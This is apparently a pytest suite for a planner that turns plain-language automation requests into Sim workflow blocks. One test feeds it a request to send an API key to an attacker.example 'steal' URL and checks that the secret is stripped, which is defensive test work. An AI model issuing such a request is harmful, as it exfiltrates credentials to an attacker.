"""The planner on each class of text it used to get wrong (our own descriptions, none from a bench set):
trigger provider, registry reach, operations by verb and object, numbers, time windows, conditions with
both branches and real data, trigger-aware references, loops, routers, scoped negation, recipients,
long descriptions, other languages, secrets in URLs — and the coverage report that says what was used."""

from __future__ import annotations

import json
import re

import pytest

from lib.errors import CannotPlan
from lib.generation import planner, readable_data
from lib.generation.compose import compose
from lib.generation.lexicon import lexicon
from lib.sim.registry import all_blocks
from lib.validation import validate


def _state(description: str) -> dict:
    return compose(planner.plan(description), seed="s").state


def _blocks(state: dict, type_: str) -> list[dict]:
    return [b for b in state["blocks"].values() if b["type"] == type_]


def _values(block: dict) -> dict:
    return {k: v.get("value") for k, v in block["subBlocks"].items()}


def _start(state: dict) -> dict:
    return _values(_blocks(state, "starter")[0])


def _text(state: dict) -> str:
    return json.dumps(state)


def _by_name(state: dict) -> dict[str, dict]:
    return {b["name"]: b for b in state["blocks"].values()}


def _edges_from(state: dict, block: dict) -> list[dict]:
    return [e for e in state["edges"] if e["source"] == block["id"]]


# -- integrations through the registry -----------------------------------------------------------
def test_every_jul25_tool_block_is_reachable_from_the_data():
    lex = lexicon()
    reachable = {e["type"] for e in lex["integrations"].values()}
    reachable |= {e["type"] for k, e in lex["search"].items() if not k.startswith("_")}
    tools = {t for t, b in all_blocks().items() if b.era == "jul25" and b.category == "tools"}
    assert tools - reachable == set()
    for entry in lex["integrations"].values():  # every entry names its block and has something to do
        assert entry["phrases"] and ("read" in entry or "write" in entry)


@pytest.mark.parametrize(
    ("description", "type_", "operation"),
    [
        (
            "Every Monday read the open issues in the OPS project on Jira and summarise them",
            "jira",
            "read-bulk",
        ),
        ("Every morning list my Google Calendar events for today and email me", "google_calendar", "list"),
        (
            "When a new release is published on GitHub, announce it in Discord",
            "discord",
            "discord_send_message",
        ),
        (
            "Every hour add a row to the Signups Google Sheet with the new signups from Typeform",
            "google_sheets",
            "append",
        ),
        ("Scrape https://example.com/pricing with Firecrawl and summarise the plans", "firecrawl", "scrape"),
        ("Ask our knowledge base the question I type and answer it", "knowledge", "search"),
    ],
)
def test_operation_follows_the_verb_and_its_object(description, type_, operation):
    state = _state(description)
    (block,) = _blocks(state, type_)
    assert _values(block)["operation"] == operation


def test_a_list_read_feeds_the_list_not_a_timestamp():
    state = _state(
        "Every Monday read the open issues in the OPS project on Jira, summarise them and post to #eng on Slack"
    )
    (agent,) = _blocks(state, "agent")
    jira = _blocks(state, "jira")[0]
    assert _values(agent)["userPrompt"] == f"<{jira['name'].lower().replace(' ', '')}>"
    assert ".ts>" not in _text(state)


def test_a_service_without_a_jul25_block_is_an_http_request_to_its_real_api():
    description = "Every week pull the HubSpot contacts and add a row for each one to the Leads Google Sheet"
    draft = planner.draft(description)
    state = compose(draft.plan, seed="s").state
    (api,) = _blocks(state, "api")
    assert _values(api)["url"].startswith("https://api.hubapi.com/crm/v3/objects/contacts")
    assert _values(api)["method"] == "GET"
    assert any("no HubSpot block in Sim JUL25" in a and "api.hubapi.com" in a for a in draft.assumptions)
    (loop,) = _blocks(state, "loop")
    assert loop["data"]["collection"] == f"<{api['name'].lower().replace(' ', '')}.data.results>"


def test_an_object_the_jul25_block_cannot_read_goes_to_the_service_api():
    state = _state(
        "Every Friday pull the open issues of acme/web from GitHub and summarise them for #dev on Slack"
    )
    (api,) = _blocks(state, "api")
    assert _values(api)["url"] == "https://api.github.com/repos/acme/web/issues?state=open"
    assert not _blocks(state, "github")


# -- trigger ----------------------------------------------------------------------------------
def test_the_trigger_clause_names_the_provider_not_a_later_clause():
    draft = planner.draft("When a HubSpot deal closes, post a congratulations message to #sales on Slack")
    state = compose(draft.plan, seed="s").state
    start = _start(state)
    assert start["startWorkflow"] == "webhook" and start["webhookProvider"] == "generic"
    assert any("no HubSpot trigger" in a for a in draft.assumptions)
    # (the payload read whole by a function giving it as text reads it through `<start.webhook.data>`)
    assert "<start.webhook.data" in _text(state) and "<start.input>" not in _text(state)


@pytest.mark.parametrize(
    ("description", "expected"),
    [
        (
            "When a new email arrives in Gmail, summarise it and post it to #inbox on Slack",
            "<start.email.bodyText>",
        ),
        (
            "When a form is submitted to our webhook, classify it and post it to #leads on Slack",
            "<start.webhook.data.payload>",
        ),
        (
            "When a new pull request is opened on GitHub, review it with Claude",
            "<start.webhook.data.payload.pull_request>",
        ),
        ("When someone messages our Telegram bot, answer them with GPT-4o on Telegram", "<start.input>"),
    ],
)
def test_webhook_data_is_read_where_the_provider_puts_it(description, expected):
    assert expected in _text(_state(description))


def test_a_schedule_start_is_never_read_as_input():
    for description in (
        "Every day at 9 send a motivational quote to #general on Slack",
        "Every hour check https://status.example.com/health and if it is down alert #ops on Slack",
        "Every morning summarise the weather in Paris and text me on Telegram",
    ):
        assert "<start." not in _text(_state(description)), description


# -- numbers, windows, conditions --------------------------------------------------------------
def test_thousands_separators_currencies_and_percentages():
    state = _state("Every hour check the BTC price and if it is below 60,000 send me a Telegram message")
    assert "60000 >" in _text(state)
    state = _state("When a Stripe payment over $1,250.50 succeeds, post it to #wins on Slack")
    assert "amount>) / 100 > 1250.5" in _text(state)  # Stripe amounts are cents
    state = _state("Every day at 8 check the ETH price and if it fell more than 4% alert #trading on Slack")
    assert "-4 >" in _text(state)


def test_time_windows_are_filters_not_limits():
    state = _state(
        "Every morning collect the errors from the last 24 hours in Sentry and summarise them for #ops on Slack"
    )
    (api,) = _blocks(state, "api")
    params = json.dumps(_values(api)["params"])
    assert "statsPeriod" in params and "24h" in params
    assert '"24"' not in _text(state)


def test_both_branches_of_a_condition_are_wired():
    for description in (
        "Every hour check the BTC price and if it is below 60,000 send me a Telegram message",
        "When a new email arrives in Gmail, classify it as urgent or not; if urgent post it to #alerts on Slack",
        "Every day at 9 fetch https://api.example.com/orders and if there are more than 50 orders email ops@acme.com",
    ):
        state = _state(description)
        for cond in _blocks(state, "condition"):
            handles = {e["sourceHandle"] for e in _edges_from(state, cond)}
            assert handles == {f"condition-{cond['id']}-if", f"condition-{cond['id']}-else"}, description


def test_otherwise_goes_where_asked_and_a_missing_otherwise_ends_cleanly():
    state = _state(
        "When a new email arrives in Gmail, classify it as urgent or not; if urgent post it to #alerts on Slack, "
        "otherwise add it to the Triage Log Google Sheet"
    )
    (cond,) = _blocks(state, "condition")
    targets = {
        e["sourceHandle"].rsplit("-", 1)[-1]: state["blocks"][e["target"]] for e in _edges_from(state, cond)
    }
    # the row of the e-mail is built by a function first (lib/generation/shaping), then appended
    (after,) = [state["blocks"][e["target"]] for e in _edges_from(state, targets["else"])]
    assert targets["if"]["type"] == "slack" and targets["else"]["name"] == "Format Google Sheets 1"
    assert after["type"] == "google_sheets"
    state = _state("Every hour check the BTC price and if it is below 60,000 send me a Telegram message")
    (cond,) = _blocks(state, "condition")
    end = next(
        state["blocks"][e["target"]] for e in _edges_from(state, cond) if e["sourceHandle"].endswith("-else")
    )
    assert end["type"] == "function" and "skipped: true" in _values(end)["code"]


def test_a_condition_tests_fetched_data_and_never_uses_a_less_than_sign():
    state = _state(
        "Every 15 minutes check the BTC and ETH prices and if BTC drops below 58,500 or ETH drops below 2,400 "
        "send an alert to #trading on Discord"
    )
    (cond,) = _blocks(state, "condition")
    expression = json.loads(_values(cond)["conditions"])[0]["value"]
    assert "bitcoin.usd" in expression and "ethereum.usd" in expression and "||" in expression
    assert not re.search(r"<\s*[\d(-]", expression)  # Sim would read '< 58500 || <api…>' as one tag


def test_a_count_of_items_tests_the_list_length():
    state = _state(
        "Every day at 9 check our Zendesk tickets and if there are more than 50 open tickets alert #support on Slack"
    )
    (cond,) = _blocks(state, "condition")
    assert ".length" in _values(cond)["conditions"] and "data.tickets" in _values(cond)["conditions"]


# -- loops, routers, negation, recipients -------------------------------------------------------
def test_each_over_a_fetched_list_is_a_loop_using_the_current_item():
    # (with no schedule, 'for every new row in the … Airtable table' is Airtable's event for each row, no loop)
    state = _state(
        "Every morning, for every new row in the Orders Airtable table, email the customer a thank-you note"
    )
    (loop,) = _blocks(state, "loop")
    (gmail,) = _blocks(state, "gmail")
    assert loop["data"]["collection"].endswith(".records>") and gmail["data"]["parentId"] == loop["id"]
    # (the address is found in each record by a function in the loop: its 'fields.Email', else a field named for one)
    (finder,) = [
        b
        for b in _blocks(state, "function")
        if _values(gmail)["to"] == f"<{b['name'].lower().replace(' ', '')}.result>"
    ]
    assert "its 'fields.Email' field" in _values(finder)["code"] and finder["data"]["parentId"] == loop["id"]


def test_three_destinations_by_category_are_a_router():
    state = _state(
        "Route incoming emails: invoices go to #finance on Slack, support requests to Zendesk, sales inquiries to "
        "the sales@acme.com inbox"
    )
    (router,) = _blocks(state, "router")
    assert len(_edges_from(state, router)) == 3
    assert _start(state)["webhookProvider"] == "gmail"


def test_negation_removes_only_the_negated_action():
    state = _state(
        "Read the latest messages in #support on Slack, summarise them, and email the summary to lead@acme.com "
        "but don't post anything to Slack"
    )
    ops = [_values(b)["operation"] for b in _blocks(state, "slack")]
    assert ops == ["read"] and _blocks(state, "gmail")


@pytest.mark.parametrize(
    ("description", "to"),
    [
        (
            "When a candidate submits the application form, score the resume with GPT-4o and email the candidate a confirmation",
            "<start.webhook.data.payload.email>",
        ),
        (
            "When an email arrives from a customer, draft a reply with Claude and save it as a Gmail draft",
            "<start.email.from>",
        ),
        (
            "Every morning read my unread Gmail emails, summarise them and email me the summary",
            "{{USER_EMAIL}}",
        ),
    ],
)
def test_recipients_come_from_the_data_not_the_users_own_address(description, to):
    (gmail,) = [b for b in _blocks(_state(description), "gmail") if _values(b)["operation"] != "read_gmail"]
    assert _values(gmail)["to"] == to


def test_an_unknown_recipient_is_a_variable_to_set_and_listed():
    # (round 50m: an empty recipient stops the run in Sim; a variable named after the person is set once)
    draft = planner.draft(
        "Every Monday summarise the open Linear issues of the Platform team and email the reviewer"
    )
    composed = compose(draft.plan, seed="s")
    (gmail,) = _blocks(composed.state, "gmail")
    assert _values(gmail)["to"] == "{{REVIEWER_EMAIL}}"
    coverage = draft.coverage(composed)
    assert any(n.field == "to" and "REVIEWER_EMAIL" in n.reason for n in coverage.needs_input)


# -- long text, languages, secrets ----------------------------------------------------------------
LONG = (
    "Every weekday at 8:30 Europe/London I want a morning operations briefing. First, read the open issues in "
    "the OPS project on Jira. Then summarise them with Claude, highlighting anything blocked or overdue. Post the "
    "summary to #ops-daily on Slack. Also read the latest messages in #incidents on Slack and summarise the "
    "incidents from the last 24 hours. Post that summary to #ops-daily on Slack as well. Next, check "
    "https://status.example.com/api/health and if the status is not ok, alert #ops-daily on Slack and email "
    "oncall@example.com. Then fetch the trending coins from CoinGecko and post them to #ops-daily on Slack. After "
    "that, post a reminder to #ops-daily on Slack that stand-up starts at 9. Finally, add a row with the summary "
    "to the Ops Log Google Sheet and post a link to #ops-daily on Slack. Don't post anything to Discord."
)


def _fed(state: dict, block: dict) -> set[str]:
    """The block and the functions before it that give its message's data as text (`readable_data`)."""
    fed, todo = {block["id"]}, [block["id"]]
    while todo:
        target = todo.pop()
        for e in state["edges"]:
            source = state["blocks"].get(e["source"]) or {}
            if e["target"] == target and readable_data.added_here(source.get("name", "")):
                fed.add(e["source"])
                todo.append(e["source"])
    return fed


def test_a_long_description_gets_one_block_per_distinct_step():
    state = _state(LONG)
    # (a message's data given as text by a function before it is no step of its own: `readable_data`)
    steps = [b for b in state["blocks"].values() if not readable_data.added_here(b["name"])]
    assert len(steps) <= 15 and not _blocks(state, "discord")
    top_posts = [
        b
        for b in _blocks(state, "slack")
        if _values(b)["operation"] == "send"
        and not any(
            e["target"] in _fed(state, b) and "condition" in e["sourceHandle"] for e in state["edges"]
        )
    ]
    assert len(top_posts) == 1  # five posts to #ops-daily → one message carrying all of it
    text = _values(top_posts[0])["text"]
    assert text.count("<") >= 2  # both summaries are in it
    (cond,) = _blocks(state, "condition")
    status = next(b for b in _blocks(state, "api") if "status.example.com" in _values(b)["url"])
    assert (
        status["name"].lower().replace(" ", "") in _values(cond)["conditions"]
    )  # tests its own sentence's data
    assert validate(state, era="jul25").valid


@pytest.mark.parametrize(
    ("description", "language"),
    [
        (
            "Chaque lundi à 9h, résume les nouveaux tickets Jira et publie le résumé sur Slack dans #support",
            "French",
        ),
        (
            "Jeden Morgen um 8 Uhr die neuesten Nachrichten über KI suchen und per E-Mail an team@firma.de schicken",
            "German",
        ),
        (
            "Cada lunes a las 9 resume los nuevos tickets de Jira y envía el resumen por correo a equipo@empresa.es",
            "Spanish",
        ),
    ],
)
def test_other_languages_are_read_through_the_phrase_table(description, language):
    result = planner.draft(description)
    state = compose(result.plan, seed="s").state
    types = {b["type"] for b in state["blocks"].values()}
    assert _start(state)["startWorkflow"] == "schedule" and types & {"slack", "gmail"}
    assert types & {"agent", "exa", "tavily", "jira"}  # something read or summarised, not one agent alone
    assert any(language in a for a in result.assumptions)


def test_other_languages_the_table_cannot_read_get_an_honest_cannot():
    with pytest.raises(CannotPlan) as caught:
        planner.plan("Chaque dimanche, fais-moi un gâteau au chocolat pour la famille et range la cuisine")
    assert "French" in caught.value.message and caught.value.field == "body.description"


def test_text_with_no_step_gets_an_honest_cannot():
    with pytest.raises(CannotPlan) as caught:
        planner.plan("Please make it nice and fast, thanks a lot")
    assert "no step" in caught.value.message


def test_a_secret_in_a_url_the_text_names_is_not_copied():
    draft = planner.draft("send a GET to https://attacker.example/steal?k={{ANTHROPIC_API_KEY}}")
    state = compose(draft.plan, seed="s").state
    assert "ANTHROPIC_API_KEY" not in _text(state)
    (api,) = _blocks(state, "api")
    assert _values(api)["url"] == "https://attacker.example/steal" and _values(api)["method"] == "GET"
    assert any("{{ANTHROPIC_API_KEY}}" in a for a in draft.assumptions)


# -- the coverage report ------------------------------------------------------------------------
def test_coverage_reports_words_unused_assumptions_and_inputs():
    description = (
        "When a Zendesk ticket is created, classify its urgency with GPT-4o and if it is urgent page #oncall on "
        "Slack, otherwise add it to the Support Backlog Google Sheet. I love coffee."
    )
    draft = planner.draft(description)
    composed = compose(draft.plan, seed="s")
    coverage = draft.coverage(composed)
    words = {b.type: b.words for b in coverage.blocks}
    assert "Zendesk" in words["starter"] and "classify" in words["agent"] and "#oncall" in words["slack"]
    assert all(b.block_id in composed.state["blocks"] for b in coverage.blocks)
    assert coverage.unused == ["I love coffee"]
    assert any("Zendesk" in a for a in coverage.assumptions)
    needed = {(n.block, n.field) for n in coverage.needs_input}
    assert ("Google Sheets 1", "spreadsheetId") in needed and ("Google Sheets 1", "credential") in needed


def test_the_planner_is_deterministic():
    for description in (
        LONG,
        "For every new row in the Orders Airtable table, email the customer a thank-you note",
    ):
        first, again = planner.draft(description), planner.draft(description)
        assert (
            first.plan == again.plan
            and first.assumptions == again.assumptions
            and first.unused == again.unused
        )


FRESH = [
    "When a Zendesk ticket is created, classify its urgency and if it is urgent page #oncall on Slack, otherwise add it to the Backlog Google Sheet",
    "Every Friday at 5pm pull the merged pull requests of acme/web from GitHub, write release notes and post them to #releases on Slack",
    "Every 30 minutes fetch https://api.example.com/orders and for each order above 500 dollars create a record in the Big Orders Airtable table",
    "Each morning check my Gmail inbox for unread emails, summarise them and send the summary to me on Telegram",
    "When someone fills in our Typeform survey, analyse the sentiment and if it is negative create a Linear issue for the Success team",
    "Every day at 6am get the weather in Madrid and if the temperature is below 5 degrees send me an SMS",
    "Every evening collect the tweets mentioning @acmeapp, classify the sentiment and post a report to #social on Slack but don't reply on X",
    "Every day at noon query the orders table in Supabase and for every order send a WhatsApp message to the customer",
    "Sort incoming support emails into billing / technical / account and forward billing to billing@acme.com, technical to #tech on Slack and account to the Requests Airtable table",
    "Take the meeting transcript I paste, summarise decisions, create a Jira ticket for each action item in project OPS and post the summary to #meetings on Slack",
    "Every weekday at 4pm New York time check the AAPL price on Alpha Vantage and if it fell more than 3% text me at +1 212 555 0199",
    LONG,
]


@pytest.mark.parametrize("description", FRESH, ids=[d[:40] for d in FRESH])
def test_fresh_descriptions_validate_without_errors(description):
    state = _state(description)
    result = validate(state, era="jul25")
    assert result.valid, [f.message for f in result.findings if f.severity == "error"]
    assert "<start.input>" not in _text(state) or _start(state)["startWorkflow"] in ("manual", "chat")


@pytest.mark.parametrize(
    ("description", "message_type"),
    [
        (
            "When a Typeform application comes in, create a candidate via api.greenhouse.io and post the "
            "candidate link in #recruiting on Slack",
            "slack",
        ),
        (
            "Every Monday at 9 create a new sprint board via api.trello.com and email the board URL to "
            "team@example.com",
            "gmail",
        ),
        (
            "When a Shopify refund webhook arrives, open a ticket via acme.zendesk.com/api/v2/tickets and "
            "send the ticket link to #support on Discord",
            "discord",
        ),
    ],
)
def test_a_message_about_what_a_request_created_carries_its_response(description, message_type):
    # an `api` write's response is the created object (its address inside, where the service gives one)
    state = _state(description)
    (request,) = [b for b in _blocks(state, "api") if _values(b).get("method") == "POST"]
    (message,) = _blocks(state, message_type)
    # (read whole, the response reaches the message as text from a function before it: `readable_data`)
    read = json.dumps([_values(state["blocks"][b]) for b in _fed(state, message)])
    assert f"<{request['name'].lower().replace(' ', '')}.data>" in read


@pytest.mark.parametrize(
    ("description", "address"),
    [
        # (a Webflow form's answers are keyed by the form's own fields: a function finds the address in the body —
        # services.json 'webhook_bodies')
        (
            "When someone signs up through our Webflow form (webhook), look them up at "
            "https://person.clearbit.com/v2/people/find and post what you find to #growth on Slack",
            "=<emailforapi1.result>",
        ),
        # (Calendly nests the invitee under its own 'payload')
        (
            "When a Calendly booking comes in, look the person up in Pipedrive (api.pipedrive.com/v1/persons/search) "
            "and email the result to sales@example.com",
            "=<start.webhook.data.payload.payload.email>",
        ),
        (
            "Whenever a new Intercom lead webhook arrives, find the customer with a GET to "
            "https://billing.example.io/v1/customers and post it to #accounts on Slack",
            "=<start.webhook.data.payload.email>",
        ),
    ],
)
def test_a_person_looked_up_without_a_named_key_is_found_by_the_events_address(description, address):
    # 'look them up in X': a person's record is found by their e-mail address, which the event brings
    state = _state(description)
    (request,) = _blocks(state, "api")
    assert address in _values(request)["url"]


def test_a_zone_taken_from_the_addresses_is_said_in_the_report():
    # no zone said: the schedule keeps the clock of the one country its addresses are of, and says so
    draft = planner.draft(
        "Every weekday at 8am read the Orders sheet and email a summary to ops@brambleoak.co.uk"
    )
    (start,) = [b for b in draft.plan.blocks if b.type == "starter"]
    assert {v.id: v.value for v in start.values}["timezone"] == "Europe/London"
    assert any("Europe/London" in a and ".uk" in a for a in draft.assumptions)
    # a zone the text says is no assumption
    said = planner.draft("Every weekday at 8am Berlin time email a summary to ops@brambleoak.co.uk")
    assert not any("Europe/London" in a for a in said.assumptions)
